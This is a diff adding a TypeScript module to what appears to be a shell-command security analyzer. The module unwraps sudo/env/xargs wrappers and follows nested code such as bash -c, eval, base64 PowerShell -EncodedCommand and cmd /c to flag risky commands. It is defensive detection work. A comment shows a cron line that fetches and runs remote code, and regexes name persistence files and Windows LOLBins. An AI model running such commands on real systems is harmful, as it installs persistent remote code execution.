@@ -1,0 +1,371 @@
+/**
+ * Resolves wrappers (sudo, env, nohup, xargs…) to the program that really runs, and follows
+ * nested code: `bash -c`, stdin scripts, `eval`, `powershell -EncodedCommand`, `cmd /c`,
+ * `find -exec`, `Start-Process`, `python -c`…
+ */
+import { DYN, type Invocation, type Lang } from './ir.js';
+import { fixedMapper, shiftMapper, type Engine, type SpanMapper } from './engine.js';
+import type { Span } from './types.js';
+import { decodeBase64Text } from './decode.js';
+import { isPosixShell, isPython, normalizeProgram, PS_HOSTS, readsCodeFromStdin } from './programs.js';
+import { scanSnippet } from './snippets.js';
+
+export interface Resolved {
+  program: string;
+  written: string;
+  args: string[];
+  argSpans: Span[];
+  wrappers: string[];
+  root: boolean;
+}
+
+/** Options that take a value, per wrapper. */
+const valued: Record<string, RegExp> = {
+  sudo: /^-[ugphCDrtUTR]$|^--(user|group|host|prompt|chdir|role|type|other-user|close-from|command-timeout)$/,
+  doas: /^-[uC]$/,
+  env: /^-[uCS]$|^--(unset|chdir|split-string)$/,
+  nice: /^-n$|^--adjustment$/,
+  ionice: /^-[cnp]$/,
+  timeout: /^-[sk]$|^--(signal|kill-after)$/,
+  stdbuf: /^-[ioe]$/,
+  taskset: /^-c$/,
+  xargs: /^-[IinPdLEsa]$|^--(max-args|max-procs|delimiter|replace|arg-file|max-lines|eof)$/,
+  exec: /^-a$/,
+  proxychains: /^-f$/,
+  proxychains4: /^-f$/,
+  flock: /^-[wEn]$/,
+  strace: /^-[opesEuS]$/,
+  ltrace: /^-[opesEuS]$/,
+  nsenter: /^-[tSGwr]$|^--(target|setuid|setgid|wd|root)$/,
+  'systemd-run': /^-[pEu]$|^--(unit|property|setenv|uid|gid|working-directory|description|slice|on-calendar)$/,
+  runuser: /^-[ugl]$/,
+  chroot: /^--(userspec|groups)$/,
+  watch: /^-[n]$|^--(interval)$/,
+};
+
+const ROOT = new Set(['sudo', 'doas', 'pkexec', 'run0', 'gsudo', 'su', 'runuser']);
+const SIMPLE = new Set([
+  'nohup', 'time', 'builtin', 'setsid', 'caffeinate', 'torsocks', 'unbuffer', 'chronic', 'tsocks', 'catchsegv', 'nice', 'ionice',
+  'stdbuf', 'timeout', 'taskset', 'exec', 'xargs', 'proxychains', 'proxychains4', 'flock', 'strace', 'ltrace', 'sudo', 'doas', 'pkexec',
+  'run0', 'gsudo', 'env', 'busybox', 'nsenter', 'unshare', 'systemd-run', 'runuser', 'chroot', 'sg', 'firejail', 'command', 'watch',
+  'dbus-launch', 'xvfb-run', 'chpst', 'faketime', 'ltrace', 'valgrind', 'call',
+]);
+
+export function resolveProgram(lang: Lang, written: string, args: string[], argSpans: Span[]): Resolved {
+  let w = written;
+  let a = args;
+  let s = argSpans;
+  const wrappers: string[] = [];
+  let root = false;
+  for (let guard = 0; guard < 8; guard++) {
+    const prog = normalizeProgram(lang, w);
+    if (lang === 'cmd' && prog === 'start') {
+      let i = 0;
+      if (a[i] !== undefined && a[i] === '') i++;
+      while (i < a.length && /^\//.test(a[i]!)) i++;
+      if (i >= a.length) break;
+      wrappers.push('start');
+      w = a[i]!;
+      s = s.slice(i + 1);
+      a = a.slice(i + 1);
+      continue;
+    }
+    if (!SIMPLE.has(prog) || lang === 'powershell') break;
+    if (prog === 'command' && a.some((x) => x === '-v' || x === '-V')) break;
+    let i = 0;
+    const takesValue = valued[prog];
+    while (i < a.length) {
+      const x = a[i]!;
+      if (x === '--') { i++; break; }
+      if (prog === 'env' && /^[A-Za-z_][A-Za-z0-9_]*=/.test(x)) { i++; continue; }
+      if ((prog === 'timeout' || prog === 'chroot' || prog === 'flock' || prog === 'sg' || prog === 'chrt') && !x.startsWith('-')) {
+        i++; // the duration, new root, lock file or group
+        break;
+      }
+      if (prog === 'taskset' && !x.startsWith('-') && /^(0x)?[0-9a-f,-]+$/i.test(x)) { i++; break; }
+      if (prog === 'nice' && /^-\d+$/.test(x)) { i++; continue; }
+      if (!x.startsWith('-') || x === '-') break;
+      if (prog === 'flock' && (x === '-c' || x === '--command')) break;
+      i++;
+      if (takesValue?.test(x)) i++;
+    }
+    if (prog === 'env' && a.slice(0, i).some((x) => x === '-S' || x === '--split-string')) {
+      const idx = a.findIndex((x) => x === '-S' || x === '--split-string');
+      const parts = (a[idx + 1] ?? '').split(/\s+/).filter(Boolean);
+      a = [...parts, ...a.slice(idx + 2)];
+      s = [...parts.map(() => s[idx + 1] ?? s[0]!), ...s.slice(idx + 2)];
+      i = 0;
+    }
+    if (ROOT.has(prog)) root = true;
+    if (i >= a.length) {
+      if (prog === 'xargs') {
+        wrappers.push(prog);
+        w = 'echo';
+        a = [];
+        s = [];
+      }
+      break;
+    }
+    wrappers.push(prog);
+    w = a[i]!;
+    s = s.slice(i + 1);
+    a = a.slice(i + 1);
+    if (prog === 'xargs') {
+      a = [...a, DYN];
+      s = [...s, s[s.length - 1] ?? { start: 0, end: 0 }];
+    }
+  }
+  return { program: normalizeProgram(lang, w), written: w, args: a, argSpans: s, wrappers, root };
+}
+
+/** A mapper for nested code found in argument `i` of `inv`. */
+function argMapper(engine: Engine, inv: Invocation, i: number, value: string): SpanMapper {
+  const span = inv.argSpans[i] ?? inv.span;
+  const raw = engine.input.slice(span.start, span.end);
+  const at = raw.indexOf(value);
+  if (value.length > 0 && at >= 0 && raw.length - value.length <= 3) return shiftMapper((x, y) => ({ start: x, end: y }), span.start + at);
+  return fixedMapper(span);
+}
+
+function stdinMapper(engine: Engine, inv: Invocation): SpanMapper {
+  const span = inv.stdinSpan ?? inv.span;
+  const text = inv.stdinText ?? '';
+  if (!inv.stdinDecoded && engine.input.slice(span.start, span.end) === text) return shiftMapper((x, y) => ({ start: x, end: y }), span.start);
+  return fixedMapper(span);
+}
+
+function nested(engine: Engine, inv: Invocation, lang: Lang, code: string, map: SpanMapper, decoded = false): void {
+  if (code.includes(DYN)) {
+    engine.event('dynamic_code', inv.span, `${inv.program} runs code that is only known when the command runs`, inv.depth);
+    code = code.split(DYN).join(' ');
+  }
+  const added = engine.analyze(lang, code, map, inv.depth + 1, inv, decoded || inv.decoded);
+  if (inv.root) for (const x of added) x.root = true;
+}
+
+function snippetLang(p: string): 'python' | 'perl' | 'ruby' | 'node' | 'php' | 'lua' | 'awk' | 'other' | undefined {
+  if (isPython(p)) return 'python';
+  if (p === 'perl') return 'perl';
+  if (p === 'ruby' || p === 'irb') return 'ruby';
+  if (p === 'node' || p === 'nodejs' || p === 'bun' || p === 'deno') return 'node';
+  if (p === 'php') return 'php';
+  if (p === 'lua' || p === 'luajit') return 'lua';
+  if (p === 'awk' || p === 'gawk' || p === 'mawk' || p === 'nawk') return 'awk';
+  if (p === 'osascript' || p === 'tclsh' || p === 'Rscript' || p === 'jjs') return 'other';
+  return undefined;
+}
+
+export function expandInvocation(engine: Engine, inv: Invocation, _map: SpanMapper): void {
+  const p = inv.program;
+  const a = inv.args;
+  if (isPosixShell(p) || p === 'su' || p === 'wsl' || p === 'script') {
+    const ci = a.findIndex((x) => (p === 'su' || p === 'script' ? x === '-c' || x === '--command' : /^-[a-z]*c[a-z]*$/.test(x) || x === '--command'));
+    if (p === 'wsl') {
+      const ei = a.findIndex((x) => x === '-e' || x === '--exec' || x === '--');
+      const rest = ei >= 0 ? a.slice(ei + 1) : a.filter((x) => !x.startsWith('-'));
+      if (rest.length > 0) nested(engine, inv, 'posix', rest.join(' '), fixedMapper(inv.span));
+      return;
+    }
+    if (ci >= 0 && a[ci + 1] !== undefined) {
+      const code = a[ci + 1]!;
+      nested(engine, inv, 'posix', code, argMapper(engine, inv, ci + 1, code));
+      return;
+    }
+    if (readsCodeFromStdin(inv) && inv.stdinText !== undefined) nested(engine, inv, 'posix', inv.stdinText, stdinMapper(engine, inv), inv.stdinDecoded);
+    return;
+  }
+  if (p === 'eval') {
+    const code = a.join(' ');
+    if (code.trim()) nested(engine, inv, 'posix', code, a.length === 1 ? argMapper(engine, inv, 0, code) : fixedMapper(inv.span));
+    return;
+  }
+  if (p === 'alias' && inv.lang === 'posix') {
+    for (let i = 0; i < a.length; i++) {
+      const m = /^[^=]+=(.*)$/s.exec(a[i]!);
+      if (m?.[1]) nested(engine, inv, 'posix', m[1], fixedMapper(inv.argSpans[i] ?? inv.span));
+    }
+    return;
+  }
+  if (PS_HOSTS.has(p)) return expandPowerShellHost(engine, inv);
+  if (p === 'cmd') {
+    const ci = a.findIndex((x) => /^\/[ckr]$/i.test(x) || /^\/[ckr]\s/i.test(x));
+    if (ci >= 0) {
+      const first = a[ci]!.length > 2 ? a[ci]!.slice(3) : '';
+      const code = [first, ...a.slice(ci + 1)].filter(Boolean).join(' ');
+      if (code) nested(engine, inv, 'cmd', code, a.length === ci + 2 ? argMapper(engine, inv, ci + 1, code) : fixedMapper(inv.span));
+    } else if (inv.stdinText !== undefined) nested(engine, inv, 'cmd', inv.stdinText, stdinMapper(engine, inv));
+    return;
+  }
+  if (p === 'invoke-expression') {
+    const code = a.filter((x) => !/^-command$/i.test(x)).join(' ');
+    if (code.trim()) nested(engine, inv, 'powershell', code, a.length === 1 ? argMapper(engine, inv, 0, code) : fixedMapper(inv.span));
+    else if (inv.stdinText !== undefined) nested(engine, inv, 'powershell', inv.stdinText, stdinMapper(engine, inv), inv.stdinDecoded);
+    return;
+  }
+  if (p === 'start-process') {
+    let file = '';
+    let list = '';
+    const pos: string[] = [];
+    let verbRunAs = false;
+    for (let i = 0; i < a.length; i++) {
+      const x = a[i]!.toLowerCase();
+      if (/^-(filepath|fi|file|path)/.test(x)) file = a[++i] ?? '';
+      else if (/^-(argumentlist|args|arg|a)$/.test(x) || x.startsWith('-argumentl')) list = a[++i] ?? '';
+      else if (x === '-verb') verbRunAs = /runas/i.test(a[++i] ?? '');
+      else if (/^-(windowstyle|workingdirectory|redirectstandard\w*|credential)$/.test(x)) i++;
+      else if (!x.startsWith('-')) pos.push(a[i]!);
+    }
+    file ||= pos[0] ?? '';
+    list ||= pos.slice(1).join(' ');
+    if (verbRunAs) inv.root = true;
+    if (file) {
+      const q = /\s/.test(file) ? `"${file}"` : file;
+      nested(engine, inv, 'cmd', `${q} ${list.replace(/',\s*'/g, ' ').replace(/^'|'$/g, '')}`.trim(), fixedMapper(inv.span));
+      if (verbRunAs) for (const x of engine.invocations) if (x.parent === inv) x.root = true;
+    }
+    return;
+  }
+  if (p === 'runas' && inv.lang !== 'posix') {
+    const code = a.filter((x) => !x.startsWith('/')).join(' ');
+    inv.root = true;
+    if (code) nested(engine, inv, 'cmd', code, fixedMapper(inv.span));
+    return;
+  }
+  if (p === 'find') {
+    for (let i = 0; i < a.length; i++) {
+      if (!/^-(exec|execdir|ok|okdir)$/.test(a[i]!)) continue;
+      let j = i + 1;
+      while (j < a.length && a[j] !== ';' && a[j] !== '+' && a[j] !== '\\;') j++;
+      const sub = a.slice(i + 1, j);
+      if (sub.length > 0) {
+        const r = resolveProgram('posix', sub[0]!, sub.slice(1), inv.argSpans.slice(i + 2, j));
+        const child = engine.addInvocation({
+          lang: 'posix', program: r.program, written: r.written, args: r.args, argSpans: r.argSpans, span: inv.span, depth: inv.depth,
+          root: inv.root || r.root, wrappers: ['find', ...r.wrappers], parent: inv, decoded: inv.decoded,
+        });
+        engine.expand(child, fixedMapper(inv.span));
+      }
+      i = j;
+    }
+    return;
+  }
+  if ((p === 'schtasks' || p === 'reg' || p === 'sc' || p === 'wmic' || p === 'at') && inv.lang !== 'posix') {
+    const flag = p === 'schtasks' ? /^\/tr$/i : p === 'reg' ? /^\/d$/i : p === 'sc' ? /^binpath=$/i : /^create$/i;
+    const i = a.findIndex((x) => flag.test(x));
+    const code = i >= 0 ? a[i + 1] : undefined;
+    if (code && /\.(exe|bat|cmd|ps1|vbs|js|hta|dll)\b|powershell|cmd|mshta|rundll32|regsvr32|wscript|cscript/i.test(code)) nested(engine, inv, 'cmd', code, argMapper(engine, inv, i + 1, code));
+    return;
+  }
+  if (p === 'ssh' && inv.lang === 'posix') {
+    const sshValued = /^-[bcDEeFIiJLlmOoPpQRSWw]$/;
+    let i = 0;
+    while (i < a.length && a[i]!.startsWith('-')) i += sshValued.test(a[i]!) ? 2 : 1;
+    const rest = a.slice(i + 1);
+    if (rest.length > 0) nested(engine, inv, 'posix', rest.join(' '), rest.length === 1 ? argMapper(engine, inv, i + 1, rest[0]!) : fixedMapper(inv.span));
+    return;
+  }
+  if ((p === 'docker' || p === 'podman' || p === 'kubectl') && inv.lang === 'posix') {
+    const dd = a.indexOf('--');
+    if (p === 'kubectl' && a[0] === 'exec' && dd >= 0 && dd + 1 < a.length) {
+      nested(engine, inv, 'posix', a.slice(dd + 1).map(shellQuote).join(' '), fixedMapper(inv.span));
+    } else if (p !== 'kubectl' && a[0] === 'exec') {
+      let i = 1;
+      while (i < a.length && a[i]!.startsWith('-')) i += /^-(e|u|w|-env|-user|-workdir)$/.test(a[i]!) ? 2 : 1;
+      const rest = a.slice(i + 1);
+      if (rest.length > 0) nested(engine, inv, 'posix', rest.map(shellQuote).join(' '), fixedMapper(inv.span));
+    }
+    return;
+  }
+  const lang = snippetLang(p);
+  if (lang) {
+    const flag = lang === 'python' ? /^-c$/ : lang === 'node' ? /^(-e|-p|--eval|--print|eval)$/ : lang === 'php' ? /^-r$/ : lang === 'awk' ? /^$/ : /^-[eE]$|^-[a-zA-Z]*e$/;
+    let code: string | undefined;
+    let idx = -1;
+    if (lang === 'awk') {
+      let i = 0;
+      while (i < a.length && a[i]!.startsWith('-')) i += /^-[vfF]$/.test(a[i]!) ? 2 : 1;
+      idx = i;
+      code = a[i];
+    } else {
+      idx = a.findIndex((x) => flag.test(x));
+      code = idx >= 0 ? a[idx + 1] : undefined;
+      if (code !== undefined) idx += 1;
+      if (code === undefined && lang === 'python') {
+        const m = a.findIndex((x) => x === '-m');
+        if (m >= 0) code = undefined;
+      }
+    }
+    if (code !== undefined) {
+      scanSnippet(engine, inv, lang, code, argMapper(engine, inv, idx, code));
+    } else if (readsCodeFromStdin(inv) && inv.stdinText !== undefined) {
+      scanSnippet(engine, inv, lang, inv.stdinText, stdinMapper(engine, inv));
+    }
+    return;
+  }
+  if (inv.lang === 'posix' && (p === 'echo' || p === 'printf') && inv.stdinText === undefined) expandWrittenScript(engine, inv);
+}
+
+function shellQuote(s: string): string {
+  return /^[A-Za-z0-9_./:=@%+-]+$/.test(s) ? s : `'${s.replace(/'/g, `'\\''`)}'`;
+}
+
+/** `echo '* * * * * curl x|sh' >> /etc/crontab`: the text lands in a file that runs later; analyze it. */
+function expandWrittenScript(engine: Engine, inv: Invocation): void {
+  const targets = [...inv.redirects.filter((r) => r.op.includes('>')).map((r) => r.target), ...inv.downstream.filter((d) => d.program === 'tee' || d.program === 'crontab').flatMap((d) => (d.program === 'crontab' ? ['crontab'] : d.args))];
+  if (!targets.some((t) => /cron|\.bashrc|\.zshrc|\.profile|\.bash_profile|\.bash_login|\/etc\/profile|rc\.local|\.config\/autostart|systemd|init\.d|\.desktop$|\.sh$/.test(t))) return;
+  const text = inv.args.filter((x) => !/^-[neE]+$/.test(x)).join(' ');
+  if (text.includes(DYN) || !text.trim()) return;
+  for (const line of text.split('\n')) {
+    const cron = /^\s*(@\w+|(\S+\s+){5})(\S+\s+)?(.*)$/.exec(line);
+    const isCron = targets.some((t) => /cron/.test(t));
+    let code = isCron && cron ? cron[4]! : line;
+    if (isCron && cron && /^(root|[a-z_][a-z0-9_-]*)$/.test(cron[3]?.trim() ?? '') && /crontab|cron\.d/.test(targets.join(' '))) code = cron[4]!;
+    code = code.replace(/^ExecStart(Pre|Post)?=/, '').replace(/^Exec=/, '');
+    if (code.trim()) nested(engine, inv, 'posix', code, fixedMapper(inv.span));
+  }
+}
+
+/** PowerShell host options (-Command, -EncodedCommand, -File…), prefix-matched as PowerShell does. */
+function expandPowerShellHost(engine: Engine, inv: Invocation): void {
+  const a = inv.args;
+  for (let i = 0; i < a.length; i++) {
+    const raw = a[i]!;
+    const m = /^[-/\u2013\u2014\u2015]+([A-Za-z]+)(?::(.*))?$/.exec(raw);
+    if (!m) {
+      // The first operand starts the command text.
+      const code = a.slice(i).join(' ');
+      if (/\.ps1$/i.test(raw)) return;
+      nested(engine, inv, 'powershell', code, a.length === i + 1 ? argMapper(engine, inv, i, code) : fixedMapper(inv.span));
+      return;
+    }
+    const name = m[1]!.toLowerCase();
+    const inline = m[2];
+    const isEncoded = name === 'e' || name === 'ec' || (name.startsWith('en') && 'encodedcommand'.startsWith(name));
+    const isCommand = name === 'c' || (name.length >= 3 && 'command'.startsWith(name));
+    if (isEncoded) {
+      const value = inline ?? a[i + 1] ?? '';
+      const span = inv.argSpans[inline !== undefined ? i : i + 1] ?? inv.span;
+      const decoded = decodeBase64Text(value, 'utf16le');
+      engine.event('encoded_command', span, decoded ? `runs a base64-encoded PowerShell script: ${clip(decoded)}` : 'runs a base64-encoded PowerShell script that does not decode to text', inv.depth);
+      if (decoded) nested(engine, inv, 'powershell', decoded, fixedMapper(span), true);
+      else engine.event('binary_payload', span, 'an encoded command that could not be decoded', inv.depth);
+      return;
+    }
+    if (isCommand) {
+      const rest = inline !== undefined ? [inline, ...a.slice(i + 1)] : a.slice(i + 1);
+      const code = rest.join(' ');
+      if (code === '-') {
+        if (inv.stdinText !== undefined) nested(engine, inv, 'powershell', inv.stdinText, stdinMapper(engine, inv), inv.stdinDecoded);
+      } else if (code.trim()) nested(engine, inv, 'powershell', code, rest.length === 1 ? argMapper(engine, inv, i + 1, code) : fixedMapper(inv.span));
+      return;
+    }
+    if ('file'.startsWith(name) && name[0] === 'f') return;
+    if (inline === undefined && /^(w|wi|win|wind|windo|window|windows|windowst|windowsty|windowstyl|windowstyle|ep|ex|exe|exec|execu|execut|executi|executio|execution|executionp\w*|v|ve|ver|vers|versi|versio|version|inputformat|if|of|outputformat|configurationname|settingsfile|workingdirectory|wd|custompipename)$/.test(name)) i++;
+  }
+  if (inv.stdinText !== undefined && a.every((x) => /^[-/]/.test(x))) nested(engine, inv, 'powershell', inv.stdinText, stdinMapper(engine, inv), inv.stdinDecoded);
+}
+
+function clip(s: string): string {
+  const one = s.replace(/\s+/g, ' ').trim();
+  return one.length > 80 ? one.slice(0, 77) + '…' : one;
+}
